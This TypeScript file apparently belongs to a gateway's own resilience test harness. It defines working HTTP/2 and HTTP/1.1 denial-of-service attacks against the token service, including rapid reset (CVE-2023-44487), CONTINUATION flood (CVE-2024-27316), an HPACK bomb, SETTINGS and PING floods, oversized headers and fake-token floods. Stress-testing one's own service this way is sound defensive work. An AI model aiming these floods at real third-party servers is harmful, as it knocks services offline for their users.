import { randomBytes } from "node:crypto";
import { create, toBinary } from "@bufbuild/protobuf";
import {
  VerifyTokenRequestSchema,
  VerifyTokenStreamRequestSchema,
} from "../../../src/gen/m2mgateway/v1/token_service_pb.ts";
import { encodeFields } from "../../../src/http2/hpack-encoder.ts";
import {
  continuation,
  data,
  headers,
  opening,
  ping,
  repeat,
  requestFields,
  reset,
  settings,
  settingsAck,
} from "../../http2/kit/frames.ts";
import type { Attack } from "../attack.ts";
import { pour } from "../siege.ts";

const VERIFY = "/m2mgateway.v1.TokenService/VerifyToken";
const VERIFY_STREAM = "/m2mgateway.v1.TokenService/VerifyTokenStream";
const H2 = { announced: "h2", reads: true } as const;
const OPENING = Buffer.concat([opening(), settingsAck()]);
const GRPC = [["content-type", "application/grpc"]] as const;
const BLOCK = encodeFields(requestFields(VERIFY, GRPC));
const MEBIBYTE = 1024 * 1024;
const AT_ONCE = 100;

/** Clients that send as much as they can. */
export const FLOODS: readonly Attack[] = [
  {
    name: "rapid reset (CVE-2023-44487)",
    over: "tcp and tls",
    options: H2,
    connections: [2, 8],
    serve(socket) {
      const nextId = ids();
      socket.write(OPENING);
      pour(socket, () =>
        repeat(AT_ONCE, () => {
          const id = nextId();
          return Buffer.concat([headers(id, BLOCK), reset(id)]);
        }),
      );
    },
  },
  {
    name: "TLS handshakes one after another",
    over: "tls",
    options: H2,
    connections: [100, 500],
    serve(socket) {
      socket.destroy();
    },
  },
  {
    name: "CONTINUATION flood (CVE-2024-27316)",
    over: "tcp and tls",
    options: H2,
    connections: [2, 8],
    serve(socket) {
      socket.write(OPENING);
      socket.write(headers(1, BLOCK, { endHeaders: false }));
      const more = continuation(1, Buffer.alloc(16_000, 0x82), false);
      pour(socket, () => more);
    },
  },
  {
    name: "HPACK bomb",
    over: "tcp and tls",
    options: H2,
    connections: [2, 8],
    serve(socket) {
      const nextId = ids();
      const kept = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0x81, 0x1e]), Buffer.alloc(3968, "v")]);
      socket.write(OPENING);
      socket.write(headers(nextId(), Buffer.concat([BLOCK, kept]), { end: true }));
      const references = Buffer.concat([BLOCK, Buffer.alloc(12_000, 0xbe)]);
      pour(socket, () => headers(nextId(), references, { end: true }));
    },
  },
  {
    name: "SETTINGS flood",
    over: "tcp and tls",
    options: H2,
    connections: [2, 8],
    serve(socket) {
      socket.write(OPENING);
      const many = repeat(AT_ONCE, () => settings({ 1: 4096, 4: 65_535 }));
      pour(socket, () => many);
    },
  },
  {
    name: "PING flood, answers never read",
    over: "tcp and tls",
    options: { announced: "h2", reads: false },
    connections: [2, 8],
    serve(socket) {
      socket.write(OPENING);
      const many = repeat(AT_ONCE, () => ping());
      pour(socket, () => many);
    },
  },
  {
    name: "1 MiB of HTTP/1.1 headers",
    over: "tcp and tls",
    options: { announced: "http/1.1", reads: true },
    connections: [5, 100],
    serve(socket) {
      socket.write(`POST ${VERIFY} HTTP/1.1\r\nhost: x\r\nx: `);
      socket.write(Buffer.alloc(MEBIBYTE, "a"));
    },
  },
  {
    name: "1 MiB of HTTP/2 headers",
    over: "tcp and tls",
    options: H2,
    connections: [5, 100],
    serve(socket) {
      socket.write(OPENING);
      // A literal of a mebibyte, in CONTINUATION frames.
      const length = Buffer.from([0x7f, 0x81, 0xff, 0x3f]);
      socket.write(headers(1, Buffer.concat([BLOCK, Buffer.from([0, 1, 0x78]), length]), { endHeaders: false }));
      socket.write(repeat(64, () => continuation(1, Buffer.alloc(16_384, "a"), false)));
    },
  },
  {
    name: "verification streams that are never read",
    over: "tcp and tls",
    options: { announced: "h2", reads: false },
    connections: [5, 100],
    serve(socket, { token }) {
      socket.write(OPENING);
      socket.write(headers(1, requestFields(VERIFY_STREAM, GRPC)));
      const asks = repeat(AT_ONCE, (at) => {
        const message = create(VerifyTokenStreamRequestSchema, { id: BigInt(at), request: { token } });
        return data(1, envelope(toBinary(VerifyTokenStreamRequestSchema, message)));
      });
      pour(socket, () => asks);
    },
  },
  {
    name: "flood of made-up tokens over gRPC",
    over: "tcp and tls",
    options: H2,
    connections: [2, 8],
    serve(socket) {
      const nextId = ids();
      socket.write(OPENING);
      pour(socket, () =>
        repeat(AT_ONCE, () => {
          const id = nextId();
          const message = create(VerifyTokenRequestSchema, { token: madeUpToken() });
          return Buffer.concat([
            headers(id, BLOCK),
            data(id, envelope(toBinary(VerifyTokenRequestSchema, message)), { end: true }),
          ]);
        }),
      );
    },
  },
  {
    name: "flood of made-up tokens over Connect",
    over: "tcp and tls",
    options: { announced: "http/1.1", reads: true },
    connections: [4, 32],
    serve(socket) {
      pour(socket, () => {
        const body = `{"token":"${madeUpToken()}"}`;
        const head = `POST ${VERIFY} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n`;
        return Buffer.from(`${head}content-length: ${body.length}\r\n\r\n${body}`);
      });
    },
  },
];

function ids(): () => number {
  let id = -1;
  return () => {
    id += 2;
    return id;
  };
}

function madeUpToken(): string {
  return `mt_${randomBytes(24).toString("hex")}`;
}

function envelope(message: Uint8Array): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}
